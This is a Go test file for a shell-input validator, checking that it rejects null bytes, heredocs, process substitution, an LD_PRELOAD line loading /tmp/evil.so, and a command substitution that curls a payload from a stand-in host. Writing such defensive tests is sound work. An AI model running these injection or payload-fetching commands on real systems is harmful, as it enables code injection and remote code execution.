package shell

import "testing"

func TestValidateInputRejectsNullByte(t *testing.T) {
	if err := validateInput("echo hi\x00"); err == nil {
		t.Error("expected rejection for null byte")
	}
}

func TestValidateInputRejectsLDPreload(t *testing.T) {
	if err := validateInput("LD_PRELOAD=/tmp/evil.so ./app"); err == nil {
		t.Error("expected rejection for LD_PRELOAD")
	}
}

func TestValidateInputRejectsHeredoc(t *testing.T) {
	if err := validateInput("cat <<EOF\nhi\nEOF"); err == nil {
		t.Error("expected rejection for heredoc")
	}
}

func TestValidateInputRejectsProcessSubstitution(t *testing.T) {
	if err := validateInput("diff <(ls a) <(ls b)"); err == nil {
		t.Error("expected rejection for process substitution")
	}
}

func TestValidateInputRejectsCurlSubstitution(t *testing.T) {
	if err := validateInput("echo \"$(curl http://evil.example/payload)\""); err == nil {
		t.Error("expected rejection for curl command substitution")
	}
}

func TestValidateInputAllowsPlainCommand(t *testing.T) {
	if err := validateInput("ls -la /tmp"); err != nil {
		t.Errorf("plain command should be allowed, got %v", err)
	}
}

func TestValidateInputIgnoresSingleQuotedLiteral(t *testing.T) {
	// The literal text "$(curl" inside single quotes is inert shell text,
	// not executed — e.g. grep searching for that exact string.
	if err := validateInput(`grep '$(curl' file.txt`); err != nil {
		t.Errorf("single-quoted literal should not be rejected, got %v", err)
	}
}
